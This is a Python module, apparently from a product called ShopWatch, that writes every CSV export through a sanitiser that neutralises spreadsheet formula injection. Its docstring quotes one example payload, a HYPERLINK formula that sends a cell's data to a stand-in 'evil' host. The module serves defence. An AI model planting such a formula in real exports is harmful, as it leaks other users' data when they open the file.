"""The one CSV writer for everything ShopWatch exports: no cell is run by a spreadsheet as a formula.

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading tab or
carriage return can hide one), so a name or a file name such as ``=HYPERLINK("http://evil/?"&A1)`` typed by
one user could run on another user's machine when they open an export. Such text cells get a leading
apostrophe, which spreadsheets show as text and do not evaluate. Numbers (``int``, ``float``, ``Decimal``) and
text that is only a signed number or percentage (``-3``, ``+12.5%``: what the exports write for changes) are
left as they are: a spreadsheet reads them as numbers, never as formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?%?")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value to write in a cell: text that a spreadsheet would run as a formula is neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not _SIGNED_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`."""

    def __init__(self, fh: _Writable) -> None:
        self._writer = csv.writer(fh)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: _Writable) -> SafeWriter:
    """The writer every ShopWatch CSV (exports, bundle manifests, import error reports) is written with."""
    return SafeWriter(fh)
